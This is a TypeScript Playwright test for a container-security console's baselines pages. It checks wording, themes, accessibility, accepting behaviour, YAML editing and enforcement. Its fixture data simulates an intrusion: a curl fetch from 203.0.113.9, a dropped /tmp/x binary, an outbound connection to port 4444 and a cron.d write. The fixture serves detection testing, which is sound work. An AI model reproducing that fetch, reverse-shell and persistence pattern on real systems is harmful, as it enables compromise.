/**
 * Baselines as people see them: a real hub and PostgreSQL, reports as a sensor would send them. Each page says what is true, in light and dark and on
 * a phone, without a fault that axe knows; then a person ends learning, takes in what belongs there, edits the text, and enforces.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { SampleHub } from '@vedette/hub/hub-sample';
import { sampleSensor, type SampleSensor } from '@vedette/hub/sensor-sample';
import { record, seconds, type RecordInit } from '@vedette/hub/wire-sample';
import { pictures, screenshot } from './browser.ts';
import { sampleConsole, type SampleConsole } from './sample-console.ts';
import type { PageWatch } from './watch.ts';
import { waitWords } from './words.ts';

let hub: SampleHub;
let sensor: SampleSensor;
let shownConsole: SampleConsole;
let watch: PageWatch;
let page: Page;

before(async () => {
  shownConsole = await sampleConsole({ waitMs: 5000 });
  ({ hub, page, watch } = shownConsole);
});
after(() => shownConsole?.end());

async function says(...words: readonly RegExp[]): Promise<void> {
  for (const one of words) await waitWords(page, one);
}

type Wire = NonNullable<Extract<NonNullable<RecordInit['kind']>, { case: 'behaviour' }>['value']['behaviours']>[number];
const id = 'ca47'.repeat(16);

const runs = (path: string, list: readonly string[], parent = '', origin = 'image'): Wire => ({ kind: 'execution', path, arguments: [...list], parent, user: 33, origin, firstBootNs: seconds(20), program: path });
const usual: readonly Wire[] = [
  runs('/usr/local/bin/node', ['/srv/app/main.js', '--port=<n>']),
  runs('/bin/sh', ['-c', 'logrotate /etc/logrotate.conf'], '/usr/local/bin/node'),
  { ...runs('/usr/sbin/logrotate', [], '/bin/sh'), anyArguments: true },
  { kind: 'file', path: '/var/log/cart/access-<n>.log', firstBootNs: seconds(21), program: '/usr/local/bin/node' },
  { kind: 'file', path: '/var/cache/cart/**', firstBootNs: seconds(22), program: '/usr/local/bin/node' },
  { kind: 'peer', direction: 'out', protocol: 'tcp', port: 5432, name: 'orders.db.shop.svc.cluster.local', firstBootNs: seconds(23), program: '/usr/local/bin/node' },
  { kind: 'peer', direction: 'out', protocol: 'tcp', port: 443, name: '*.payments.example', firstBootNs: seconds(24), program: '/usr/local/bin/node' },
  { kind: 'peer', direction: 'in', protocol: 'tcp', port: 8080, address: 'private', firstBootNs: seconds(25), program: '/usr/local/bin/node' },
  { kind: 'peer', direction: 'listen', protocol: 'tcp', port: 8080, address: 'any', firstBootNs: seconds(19), program: '/usr/local/bin/node' },
  { kind: 'capability', capability: 'CAP_NET_BIND_SERVICE', firstBootNs: seconds(18), program: '/usr/local/bin/node' },
];

function report(containerId: string, until: number, seen: readonly Wire[], more: { session?: bigint; from?: number; lost?: bigint; whole?: boolean } = {}): RecordInit {
  return { kind: { case: 'behaviour', value: { containerId, session: more.session ?? 1n, observedFromBootNs: seconds(more.from ?? 10), observedUntilBootNs: seconds(until), seenFromStart: more.whole ?? true, recordsLost: more.lost ?? 0n, behaviours: [...seen] } } };
}

async function fill(): Promise<void> {
  sensor = await sampleSensor(hub.database, { hostname: 'first-node', cluster: 'production' });
  const pod = (name: string, workload: string, image: string, digit: string) => ({ imageName: image, platformDigest: `sha256:${digit.repeat(64)}`, podName: name, podNamespace: 'shop', podUid: name, workloadKind: 'Deployment', workloadName: workload, seenFromStart: true, startedBootNs: seconds(10) });
  await sensor.send([
    record.container({ containerId: id, ...pod('cart-7d9', 'cart', 'registry.test/shop/cart:1.4', 'c') }), report(id, 1200, usual),
    record.container({ containerId: 'da7e'.repeat(16), ...pod('worker-1', 'worker', 'registry.test/shop/worker:2.0', 'd') }), report('da7e'.repeat(16), 1200, usual.slice(0, 3)),
  ]);
  await sensor.send([report(id, 1300, [], { lost: 12n })]);
  await sensor.send([report(id, 2200, [], { session: 2n, from: 1900, whole: false })]);
}

test('before anything is learned, the page says what is missing', async () => {
  await page.goto(`${hub.url}/baselines`);
  await says(/Nothing was learned yet/, /No sensor has joined yet/);
});

test('every page says what is true, in both themes and on a phone', async () => {
  await fill();
  const one = await numberOf('cart');
  const token = await hub.tokenFor('operator');
  const visits: [name: string, path: string, says: readonly RegExp[]][] = [
    ['list-learning', '/baselines', [/2 baselines still learn/, /shop\/cart/, /no sensor, records lost/]],
    ['learning', `/baselines/${one}`, [/shop\/cart is still learned/, /after 24 hours learning ends by itself/, /\/bin\/sh -c "logrotate \/etc\/logrotate\.conf" by \/usr\/local\/bin\/node as user 33/, /to orders\.db\.shop\.svc\.cluster\.local tcp\/5432/, /12 records of the container were lost in the kernel/, /No sensor watched the container/]],
  ];
  await look(visits);
  assert.equal((await hub.ask('PUT', `/api/v1/baselines/${one}/state`, { token, body: { state: 'watch' } })).status, 200);
  await sensor.send([report(id, 2300, [runs('/usr/bin/curl', ['-s', 'http://203.0.113.9/x'], '/bin/sh'), runs('/tmp/x', [], '/bin/sh', 'dropped'), { kind: 'peer', direction: 'out', protocol: 'tcp', port: 4444, address: '203.0.113.9', firstBootNs: seconds(2290), program: '/tmp/x' }, { kind: 'file', path: '/etc/cron.d/x', firstBootNs: seconds(2291), program: '/tmp/x' }], { session: 2n, from: 1900, whole: false })]);
  await look([
    ['list', '/baselines', [/Of 1 baseline something was seen outside/, /Watched 4/]],
    ['watched', `/baselines/${one}`, [/shop\/cart did 4 things outside of its baseline/, /\/tmp\/x by \/bin\/sh as user 33 \(dropped\)/, /Learned nearby: to /, /Take all in/, /Stops programs that did not come with the image/, /no atom for the path/]],
  ]);
});

test('a person takes in what belongs there, edits the text and enforces', async () => {
  await page.setViewportSize({ width: 1280, height: 1000 });
  await page.emulateMedia({ colorScheme: 'light' });
  watch.at('changing', [422]);
  const one = await numberOf('cart');
  await page.goto(`${hub.url}/baselines/${one}`);
  await page.getByTestId('outside').filter({ hasText: 'curl' }).getByRole('button', { name: 'Take in' }).click();
  await says(/did 3 things outside/);
  await page.getByTestId('edit-baseline').click();
  const editor = page.getByLabel('Baseline as YAML');
  await editor.waitFor();
  await editor.fill((await editor.inputValue()).replace('executions:', 'executionz:'));
  await page.getByTestId('save-baseline').click();
  await says(/executionz.* is not known here/);
  await screenshot(page, pictures, 'baselines-edit-wrong');
  await editor.fill((await editor.inputValue()).replace('executionz:', 'executions:').replace('writes:\n', 'writes:\n    - /etc/cron.d/x\n'));
  await page.getByTestId('save-baseline').click();
  await says(/did 2 things outside/, /written by hand/);
  await page.getByTestId('state-enforce').click();
  await says(/Stops programs that did not come with the image/, /Tells and does not stop/);
  await screenshot(page, pictures, 'baselines-enforce');
  await page.getByTestId('set-state').click();
  await says(/Enforced a moment ago|Enforced \d+ s ago|Enforced just now|Enforced .* by admin/);
  assert.deepEqual(await watch.faults(), []);
});

async function look(visits: readonly [name: string, path: string, says: readonly RegExp[]][]): Promise<void> {
  const faults: string[] = [];
  for (const [name, path, words] of visits) {
    for (const [theme, width, height] of [['light', 1280, 1400], ['dark', 1280, 1400], ['phone', 390, 844]] as const) {
      watch.at(`${name} ${theme}`);
      await page.emulateMedia({ colorScheme: theme === 'dark' ? 'dark' : 'light' });
      await page.setViewportSize({ width, height });
      await page.goto(`${hub.url}${path}`);
      if (theme === 'phone') await page.locator('h1').waitFor();
      else await says(...words);
      await screenshot(page, pictures, `baselines-${name}-${theme}`);
      faults.push(...await watch.faults(), ...await watch.wide(), ...(theme === 'phone' ? [] : await watch.axe()));
    }
  }
  assert.deepEqual(faults, []);
}

async function numberOf(workload: string): Promise<string> {
  const { items } = (await hub.ask('GET', `/api/v1/baselines?workload=${workload}`, { token: await hub.tokenFor('viewer') })).json as unknown as { items: { id: string }[] };
  return items[0]?.id ?? '';
}
